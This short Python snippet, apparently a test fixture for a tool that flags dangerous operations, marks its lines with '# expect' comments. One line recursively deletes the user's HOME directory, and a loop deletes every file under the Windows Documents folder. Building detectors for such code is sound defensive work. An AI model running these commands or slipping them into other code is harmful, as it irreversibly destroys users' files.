import os
import shutil

shutil.rmtree(os.environ["HOME"], ignore_errors=True)  # expect
for folder, _, names in os.walk(os.path.join(os.environ["USERPROFILE"], "Documents")):
    for name in names:
        os.remove(os.path.join(folder, name))  # expect
